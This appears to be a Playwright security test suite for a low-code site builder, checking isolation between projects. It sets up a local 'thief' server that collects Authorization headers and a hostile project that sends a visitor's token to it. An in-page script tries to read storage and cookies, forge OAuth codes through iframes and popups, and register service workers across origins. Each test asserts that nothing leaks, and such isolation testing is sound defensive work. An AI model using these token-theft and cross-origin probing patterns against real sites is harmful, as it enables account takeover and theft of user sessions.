import { createServer, type Server } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { expectAccessible } from './support/accessibility.ts'
import {
  enterCredentials,
  openStudio,
  pickApplication,
  saveConnection,
  waitUntilSaved,
} from './support/builder.ts'
import { dragBlock, dragStep } from './support/canvas.ts'
import { startLowgate, type Lowgate } from './support/lowgate.ts'
import { expectLoggedIn, logInAtTenant } from './support/visitor.ts'

let lowgate: Lowgate
let thief: Server
/** What the API of the hostile project was sent. */
let stolen: string[]

const clientId = 'acmeWebSiteSpaApplication000Prev'
const headers = { 'x-lowgate': 'editor' }

test.beforeAll(async () => {
  lowgate = await startLowgate()
  thief = createServer((request, response) => {
    if (request.headers.authorization) stolen.push(request.headers.authorization)
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'content-type': 'application/json',
    })
    response.end('[{"name": "Thank you"}]')
  }).listen(0, '127.0.0.1')
  await once(thief, 'listening')
})
test.afterAll(async () => {
  thief.close()
  await lowgate.stop()
})
test.beforeEach(() => {
  stolen = []
})

/** Connects the first project and logs its visitor in on its preview, with a login button on the home page. */
async function logInToVictim(page: Page) {
  await openStudio(page, lowgate)
  const address = `${lowgate.studio}/api/projects/my-site`
  const { project, revision } = await (await page.request.get(address, { headers })).json()
  const entering = {
    id: 'entering',
    trigger: { type: 'click', blockId: 'homeButton' },
    steps: [{ id: 'login', action: 'loginWithRedirect', args: {} }],
  }
  const saved = { ...project, workflows: [entering], settings: victimSettings() }
  expect((await page.request.put(address, { headers, data: { project: saved, revision } })).status()).toBe(
    200,
  )
  await page.goto(lowgate.sites.preview)
  await page.getByRole('button', { name: 'Log in' }).click()
  const [ada] = lowgate.tenants.preview.users
  if (!ada) throw new Error('The demo tenant has no visitor.')
  await logInAtTenant(page, ada)
  await expectLoggedIn(page, ada, 'Ada Byron')
}

/** Public values: anybody who visits the victim's site can read them there. */
const victimSettings = () => ({
  connections: { preview: { domain: lowgate.tenants.preview.domain, clientId } },
})

/** A project that names the victim's tenant and application, and sends the visitor's token to the thief. */
function hostileProject() {
  const { port } = thief.address() as AddressInfo
  const block = {
    id: 'steal',
    type: 'data',
    values: { url: `http://127.0.0.1:${port}/steal`, token: 'send', row: '{{ item.name }}' },
  }
  return {
    id: 'any',
    name: 'Neighbour',
    languages: ['en'],
    homePageId: 'home',
    userGroups: [],
    pages: [{ id: 'home', name: 'Home', path: '/', access: 'everyone', inMenu: true, blocks: [block] }],
    workflows: [],
    settings: victimSettings(),
  }
}

/** @returns the address of its preview */
async function createHostileProject(page: Page): Promise<string> {
  const projects = `${lowgate.studio}/api/projects`
  const data = { project: hostileProject() }
  const { projectId } = await (await page.request.post(projects, { headers, data })).json()
  const { sites } = await (await page.request.get(`${projects}/${projectId}`, { headers })).json()
  return sites.preview.origin + sites.preview.basePath
}

test('the preview of a hostile import gets no token of another project', async ({ page }) => {
  await logInToVictim(page)
  const neighbour = await createHostileProject(page)
  await page.goto(neighbour)
  await expect(page.getByText('Thank you').or(page.getByText('This did not load.'))).toBeVisible()
  expect(stolen).toEqual([])
})

test('a page of another project reaches nothing of it: no storage, cookie, window, frame, worker or login', async ({
  browser,
}) => {
  // The site's own policy would stop most of this: a hostile page would have none.
  const context = await browser.newContext({ bypassCSP: true })
  const page = await context.newPage()
  await logInToVictim(page)
  const neighbour = await createHostileProject(page)
  const kept = await page.evaluate(() => JSON.stringify({ ...localStorage }))
  const secrets = [...kept.matchAll(/"(?:access|refresh|id)_token\\*":\\*"([^"\\]+)/g)].map(
    ([, token]) => token ?? '',
  )
  expect(secrets.length).toBeGreaterThan(1)
  const cookies = await context.cookies()

  const hostile = await context.newPage()
  await hostile.goto(neighbour)
  const got = await hostile.evaluate(
    async ({ victim, tenant, clientId }) => {
      const found: string[] = [JSON.stringify({ ...localStorage, ...sessionStorage }), document.cookie]
      const attempt = async (act: () => unknown) =>
        found.push(
          await Promise.resolve()
            .then(act)
            .then((value) => JSON.stringify(value) ?? '')
            .catch(() => ''),
        )
      const later = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds))
      addEventListener('message', ({ data }) => found.push(`message ${JSON.stringify(data)}`))
      for (const name of [`lowgate~my-site:preview:${clientId}`, `lowgate:preview:${clientId}`]) {
        const channel = new BroadcastChannel(name)
        channel.onmessage = ({ data }) => found.push(`heard ${JSON.stringify(data)}`)
        channel.postMessage('logout')
      }
      for (const domain of ['localhost', '.localhost', 'my-site.localhost'])
        document.cookie = `tossed=1; domain=${domain}; path=/`
      await attempt(() => indexedDB.databases())
      await attempt(() => caches.keys())
      await attempt(async () => (await navigator.locks.query()).held)
      await attempt(() => ((document.domain = 'localhost'), document.domain))
      for (const path of ['/', '/pages/home.json', '/assets/'])
        await attempt(async () => (await fetch(victim + path, { credentials: 'include' })).text())
      await attempt(async () => (await navigator.serviceWorker.register(`${victim}/worker.js`)).scope)

      const frames = [victim, `${victim}/callback`].map((src) =>
        Object.assign(document.createElement('iframe'), { src }),
      )
      // The tenant knows the visitor, and would send a code to the page that asked if it could be any page.
      const ask = (origin: string, mode: string) =>
        `${tenant}/authorize?${new URLSearchParams({
          ...{
            client_id: clientId,
            response_type: 'code',
            response_mode: mode,
            prompt: 'none',
            scope: 'openid',
          },
          ...{ redirect_uri: `${origin}/callback`, state: 's', nonce: 'n' },
          ...{ code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' },
        })}`
      for (const origin of [victim, location.origin])
        for (const mode of ['web_message', 'query'])
          frames.push(Object.assign(document.createElement('iframe'), { src: ask(origin, mode) }))
      const windows = [
        open(victim),
        open(ask(victim, 'web_message')),
        open(ask(location.origin, 'web_message')),
      ]
      document.body.append(...frames)
      await later(2500)
      for (const other of [...frames.map(({ contentWindow }) => contentWindow), ...windows]) {
        other?.postMessage({ type: 'authorization_response', response: { code: 'forged', state: 's' } }, '*')
        await attempt(() => JSON.stringify({ ...other?.localStorage }))
        await attempt(() => other?.location.href)
        await attempt(() => other?.document.body.textContent)
      }
      await later(500)
      for (const other of windows) other?.close()
      return found
    },
    { victim: lowgate.sites.preview, tenant: `http://${lowgate.tenants.preview.domain}`, clientId },
  )
  const all = got.join('\n')
  for (const secret of secrets) expect(all).not.toContain(secret)
  expect(all).not.toMatch(/code=|"code"|message |heard |Ada Byron|ada@acme|lowgate|auth0|my-site\.localhost/)

  const now = await context.cookies()
  expect(now.filter(({ name }) => name === 'tossed')).toEqual([])
  expect(now.map(({ name, domain, value }) => [name, domain, value])).toEqual(
    expect.arrayContaining(cookies.map(({ name, domain, value }) => [name, domain, value])),
  )
  await page.bringToFront()
  await page.reload()
  await expect(page.getByRole('region', { name: 'User card' })).toContainText('Ada Byron')
  expect(stolen).toEqual([])
  await context.close()
})

test('an import takes no connection and no access token that nobody agreed to', async ({ page }) => {
  const file = { ...hostileProject(), name: 'Gift' }
  const importFile = async () => {
    await openStudio(page, lowgate, '/projects')
    const chooser = page.waitForEvent('filechooser')
    await page.getByRole('button', { name: 'Import a file' }).click()
    const buffer = Buffer.from(JSON.stringify(file))
    await (await chooser).setFiles({ name: 'gift.lowgate.json', mimeType: 'application/json', buffer })
    return page.getByRole('dialog', { name: 'Import “Gift”' })
  }
  const saved = async () => {
    await page.waitForURL('**/pages**')
    const projectId = new URL(page.url()).pathname.split('/')[2]
    const answer = await page.request.get(`${lowgate.studio}/api/projects/${projectId}`, { headers })
    return (await answer.json()).project
  }

  const dialog = await importFile()
  await expect(dialog.getByRole('region', { name: 'Connections' })).toContainText(clientId)
  await expect(dialog.getByRole('region', { name: 'Connections' })).toContainText(
    lowgate.tenants.preview.domain,
  )
  await expect(dialog.getByRole('region', { name: 'Access tokens' })).toContainText('http://127.0.0.1:')
  for (const box of await dialog.getByRole('checkbox').all()) await expect(box).not.toBeChecked()
  await expectAccessible(page, 'the question before an import')
  await dialog.getByRole('button', { name: 'Import' }).click()
  const refused = await saved()
  expect(refused.settings).toEqual({ connections: {} })
  expect(refused.pages[0].blocks[0].values.token).toBe('none')

  const second = await importFile()
  await second.getByRole('checkbox', { name: 'Take these connections' }).check()
  await second.getByRole('button', { name: 'Import' }).click()
  const taken = await saved()
  expect(taken.settings).toEqual(file.settings)
  expect(taken.pages[0].blocks[0].values.token).toBe('none')
})

test('a second project logs in once the health check has added its addresses', async ({ page }) => {
  await openStudio(page, lowgate, '/projects')
  await page.getByRole('button', { name: /^Empty/ }).click()
  await page.waitForURL('**/pages**')
  const projectId = new URL(page.url()).pathname.split('/')[2]
  const origin = lowgate.sites.preview.replace('my-site', projectId ?? '')
  expect(origin).not.toBe(lowgate.sites.preview)

  await enterCredentials(page, 'Preview', lowgate.tenants.preview)
  await pickApplication(page, 'Acme site')
  await saveConnection(page)
  await page.getByRole('button', { name: /^Fix all/ }).click()
  const dialog = page.getByRole('dialog', { name: 'Change the application in Auth0' })
  for (const added of [`${origin}/callback`, `${origin}/logged-out`, origin])
    await expect(
      dialog
        .getByRole('listitem')
        .filter({ hasText: `Add ${added}` })
        .first(),
    ).toBeVisible()
  await dialog.getByRole('button', { name: 'Add to Auth0' }).click()
  await expect(dialog).toBeHidden()
  await expect(page.getByText(/is not among the Allowed/)).toHaveCount(0)

  await page.getByRole('link', { name: 'Build' }).click()
  await dragBlock(page, 'Button')
  await dragStep(page, 'Login with Redirect')
  await dragBlock(page, 'User card')
  await waitUntilSaved(page)
  await page.goto(origin)
  await page.getByRole('button').first().click()
  const [ada] = lowgate.tenants.preview.users
  if (!ada) throw new Error('The demo tenant has no visitor.')
  await logInAtTenant(page, ada)
  await expectLoggedIn(page, ada, 'Ada Byron')
  expect(new URL(page.url()).origin).toBe(origin)
})
